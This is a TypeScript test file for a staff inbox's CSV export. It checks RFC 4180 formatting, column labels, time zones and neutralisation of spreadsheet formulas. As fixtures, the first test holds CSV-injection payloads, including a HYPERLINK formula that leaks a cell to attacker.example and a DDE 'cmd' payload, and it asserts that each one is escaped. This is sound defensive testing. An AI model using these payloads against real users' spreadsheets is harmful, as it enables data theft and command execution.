// @vitest-environment node
/**
 * The inbox's CSV export with a signed-in staff member: the current filter as RFC 4180 text
 * that spreadsheets open safely.
 */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { staffApiPaths } from '@/config/staff-api';
import { createStaff, signIn, type StaffSession } from '../support/staff-client';
import { startTestServer, type TestServer, testReferences } from '../support/test-server';
import { newApplication, newContact, validContact } from '../support/payloads';
import { storeSubmission } from '../support/stored-submissions';

let server: TestServer;
let staff: StaffSession;
beforeEach(async () => {
  server = await startTestServer({ inProcess: true });
  await createStaff(server);
  staff = await signIn(server);
});
afterEach(async () => {
  await server.close();
});

const contact = newContact;
const application = newApplication;

/**
 * The body's text after its UTF-8 byte-order mark, which must be there (fetch's text() drops it).
 */
async function csvText(response: Response): Promise<string> {
  const bytes = new Uint8Array(await response.arrayBuffer());
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  return new TextDecoder().decode(bytes.slice(3));
}

/** RFC 4180 records of a CSV text (quoted fields, doubled quotes, CRLF line ends). */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let field = '';
  let record: string[] = [];
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const character = text[i] ?? '';
    if (quoted) {
      if (character === '"' && text[i + 1] === '"') {
        field += '"';
        i += 1;
      } else if (character === '"') quoted = false;
      else field += character;
    } else if (character === '"') quoted = true;
    else if (character === ',') {
      record.push(field);
      field = '';
    } else if (character === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 1;
    } else field += character;
  }
  expect(field).toBe('');
  expect(record).toEqual([]);
  return records;
}

describe('CSV export', () => {
  it('exports the current filter as RFC 4180 with formulas made harmless', async () => {
    const dangerous = [
      '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")',
      '+1+2',
      '-3+4',
      '@SUM(A1:A2)',
      '\tTabbed',
      '\rReturned',
    ];
    await storeSubmission(
      server,
      contact({ last_name: 'Plain', message: 'Line one\nline "two", with a comma' }),
    );
    for (const [index, value] of dangerous.entries()) {
      await storeSubmission(
        server,
        application({ last_name: `Risky-${index}`, message: value, orgnization_name: value }),
      );
    }
    // Through the gateway as a visitor would send it, too.
    await server.submit({
      ...validContact,
      first_name: '=cmd|"/c calc"!A1',
      last_name: 'Visitor',
    });

    const response = await staff.request(`${staffApiPaths.submissionsCsv}?kind=apply&folder=all`);
    expect(response.status).toBe(200);
    expect(response.headers.get('Content-Type')).toBe('text/csv; charset=utf-8; header=present');
    expect(response.headers.get('Content-Disposition')).toMatch(
      /^attachment; filename="submissions-\d{4}-\d\d-\d\d\.csv"$/,
    );
    const text = await csvText(response);
    const [header, ...rows] = parseCsv(text);
    expect(header?.slice(0, 4)).toEqual(['Reference', 'Kind', 'Stage', 'Spam']);
    const column = (name: string) => header?.indexOf(name) ?? -1;
    expect(rows).toHaveLength(dangerous.length);
    // Newest first; every dangerous value comes back with an apostrophe in front and nothing lost.
    for (const [index, value] of dangerous.entries()) {
      const row = rows[dangerous.length - 1 - index] ?? [];
      expect(row[column('Last name')]).toBe(`Risky-${index}`);
      expect(row[column('Message')]).toBe(`'${value}`);
      expect(row[column('Organization')]).toBe(`'${value}`);
    }

    const contacts = parseCsv(
      await csvText(await staff.request(`${staffApiPaths.submissionsCsv}?kind=contact`)),
    );
    expect(
      contacts
        .slice(1)
        .map((row) => [
          row[column('Last name')],
          row[column('First name')],
          row[column('Message')],
        ]),
    ).toEqual([
      ['Visitor', `'=cmd|"/c calc"!A1`, validContact.message],
      ['Plain', 'Jane', 'Line one\nline "two", with a comma'],
    ]);

    const searched = parseCsv(
      await csvText(await staff.request(`${staffApiPaths.submissionsCsv}?folder=all&q=calc`)),
    );
    expect(searched.slice(1).map((row) => row[column('Last name')])).toEqual(['Visitor']);
  });

  it('speaks the reader’s language: labels, the company’s time zone, references, stages', async () => {
    const stored = await storeSubmission(server, application());
    const at = '2026-07-04T17:30:00.000Z';
    await server.database.db
      .updateTable('submissions')
      .set({ received_at: at })
      .where('id', '=', stored.id)
      .execute();
    const [me] = await staff
      .request(staffApiPaths.staff)
      .then(async (response) => (await response.json()) as { id: number; email: string }[]);
    await staff.request(staffApiPaths.submission(stored.id), {
      method: 'PATCH',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ stage: 'interviewing', assigneeId: me?.id }),
    });
    for (const body of ['Called, left a message.', 'Interview on\nTuesday at 10.']) {
      await staff.request(staffApiPaths.notes(stored.id), {
        method: 'POST',
        headers: { 'Content-Type': 'application/json' },
        body: JSON.stringify({ body }),
      });
    }
    const [header, row] = parseCsv(
      await csvText(await staff.request(staffApiPaths.submissionsCsv)),
    );
    expect(header).toEqual([
      'Reference',
      'Kind',
      'Stage',
      'Spam',
      'Received (America/Chicago)',
      'Job',
      'Assignee',
      'First name',
      'Last name',
      'E-mail',
      'Organization',
      'Location',
      'Onsite',
      'Message',
      'Screening answers',
      'Spam score',
      'Spam reasons',
      'Source',
      'Campaign',
      'Landing page',
      'Notes',
    ]);
    const cells = Object.fromEntries((header ?? []).map((name, index) => [name, row?.[index]]));
    expect(cells).toMatchObject({
      Reference: testReferences.of(stored.id),
      Kind: 'Application',
      Stage: 'Interviewing',
      Spam: 'No',
      // Noon-thirty in Omaha, in daylight saving time, as a spreadsheet reads a date and time.
      'Received (America/Chicago)': '2026-07-04 12:30',
      Job: 'Senior Java Developer',
      Assignee: me?.email,
      Location: 'Omaha, NE',
      Onsite: 'Yes',
      'Spam reasons': '',
      // Stored without a visit: the CSV says so in words.
      Source: 'Source unknown',
    });
    // The resume as the applicant wrote it: the position and onsite lines are columns.
    expect(cells.Message).toBe(application().message.split('\n').slice(3).join('\n'));
    // Every note, oldest first, with its time and author.
    expect(cells.Notes).toMatch(
      new RegExp(
        `^\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d ${me?.email ?? ''}: Called, left a message\\.\\n\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d ${me?.email ?? ''}: Interview on\\nTuesday at 10\\.$`,
      ),
    );
    // The portal's fixed fields are the same on every row: left out.
    expect(header?.join(' ')).not.toMatch(/portal|Requested for/i);
  });
});
